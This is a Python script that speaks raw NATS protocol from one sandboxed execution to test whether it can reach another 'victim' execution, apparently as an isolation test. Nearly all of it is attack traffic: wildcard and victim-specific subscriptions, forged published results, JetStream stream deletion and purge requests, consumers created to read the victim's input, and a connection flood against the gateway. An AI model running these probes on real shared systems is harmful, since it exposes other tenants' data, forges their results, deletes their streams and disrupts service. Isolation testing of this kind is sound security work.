"""Speaks NATS by hand, as this execution, about another one."""

from __future__ import annotations

import json
import os
import socket
import time
from typing import Any

NATS_PORT = 4222
FLOOD_SECONDS = 1.0
ANSWER_SECONDS = 20.0  # Every PING is answered or ends the connection; a busy machine takes its time.


def main(victim: str, runner: str, flood: bool = False) -> dict[str, Any]:
    own = os.environ["EXECUTION_ID"]
    said: dict[str, str] = {}
    for name, token in {"no token": "", "another token": "x" * 40, "the victim's id": victim}.items():
        with connect(token) as connection:
            said[f"connect with {name}"] = talk(connection, b"PING\r\n", 0.3)
    for name, lines in attacks(victim, own, runner).items():
        with connect(os.environ["AUTH_TOKEN"]) as connection:
            said[name] = talk(connection, lines, 0.25 if name.startswith("subscribe") else 0.0)
    if flood:
        said["flood"] = str(exhaust())
    return said


def connect(token: str) -> socket.socket:
    connection = socket.create_connection(("127.0.0.1", NATS_PORT), 5)
    options = {"verbose": False, "pass": token, "user": "x", "lang": "python", "version": "1", "protocol": 1}
    connection.sendall(b"CONNECT " + json.dumps(options).encode() + b"\r\n")
    return connection


def talk(connection: socket.socket, lines: bytes, seconds: float) -> str:
    """What is heard until the answer to the PING, and for so many seconds after it."""
    heard = b""
    is_answered = False
    ends = time.monotonic() + ANSWER_SECONDS
    try:
        connection.sendall(lines)
        while (left := ends - time.monotonic()) > 0:
            connection.settimeout(left)
            part = connection.recv(65536)
            if not part:
                break
            heard += part
            if not is_answered and b"PONG\r\n" in heard:
                is_answered, ends = True, time.monotonic() + seconds
    except OSError:
        pass
    return heard.decode(errors="replace")


def attacks(victim: str, own: str, runner: str) -> dict[str, bytes]:
    wanted = ("exec.input", "exec.output", "exec.events", "exec.status")
    found = {f"subscribe {subject}": subscription(subject) for subject in (">", "*.>", "_INBOX.>", "exec.>", "$SYS.>")}
    found |= {f"subscribe {subject} of the victim": subscription(f"{subject}.{victim}") for subject in wanted}
    found |= {f"subscribe flow.runner.{runner}.>": subscription(f"flow.runner.{runner}.>")}
    forged = json.dumps({"execution_id": victim, "output": "forged", "error": None, "status": "completed"}).encode()
    forged_event = json.dumps({"event_type": "forged", "event_data": 1, "status": "forged"}).encode()
    found |= {f"publish {subject} of the victim": publication(f"{subject}.{victim}", forged) for subject in wanted[:2]}
    found |= {
        f"publish {subject} for the victim": publication(f"{subject}.{victim}", forged_event) for subject in wanted[2:]
    }
    found |= {f"publish {subject}": publication(subject, forged) for subject in ("flow.runner.claim", "flow.build")}
    found |= {
        f"publish {subject}": publication(subject, forged) for subject in (f"flow.runner.{runner}.cancel", "_INBOX.a.b")
    }
    for stream in ("EXEC_INPUT", "EXEC_OUTPUT", "EXEC_EVENTS", "KV_x", "OBJ_FLOW_PAYLOADS"):
        for verb in ("STREAM.DELETE", "STREAM.PURGE", "STREAM.INFO", "STREAM.MSG.GET", "CONSUMER.LIST"):
            found[f"{verb} {stream}"] = request(f"$JS.API.{verb}.{stream}", {"seq": 1})
    consumer = {
        "stream_name": "EXEC_INPUT",
        "config": {"filter_subject": f"exec.input.{victim}", "deliver_subject": "_INBOX.x"},
    }
    found["consume the victim's input"] = request("$JS.API.CONSUMER.CREATE.EXEC_INPUT", consumer)
    found["consume all inputs"] = request(
        "$JS.API.CONSUMER.CREATE.EXEC_INPUT",
        {"stream_name": "EXEC_INPUT", "config": {"filter_subject": "exec.input.>"}},
    )
    found["get the victim's input"] = request(f"$JS.API.DIRECT.GET.EXEC_INPUT.exec.input.{victim}", {})
    found["make a stream"] = request("$JS.API.STREAM.CREATE.mine", {"name": "mine", "subjects": [">"]})
    found["ask the server"] = request("$SYS.REQ.SERVER.PING", {})
    return found


def subscription(subject: str) -> bytes:
    return f"SUB {subject} 1\r\nPING\r\n".encode()


def publication(subject: str, body: bytes) -> bytes:
    return f"PUB {subject} {len(body)}\r\n".encode() + body + b"\r\nPING\r\n"


def request(subject: str, body: Any) -> bytes:
    content = json.dumps(body).encode()
    return b"SUB _INBOX.x 1\r\n" + f"PUB {subject} _INBOX.x {len(content)}\r\n".encode() + content + b"\r\nPING\r\n"


def exhaust() -> int:
    """Opens connections and sends until the gateway has had enough; how many bytes it took."""
    held: list[socket.socket] = []
    sent = 0
    try:
        held.extend(connect(os.environ["AUTH_TOKEN"]) for _ in range(100))
        ends = time.monotonic() + FLOOD_SECONDS
        while time.monotonic() < ends:
            for one in held:
                one.settimeout(0.05)
                sent += one.send(b"PUB exec.events.nobody 60000\r\n" + bytes(60000) + b"\r\n")
    except OSError:
        pass
    for one in held:
        one.close()
    return sent
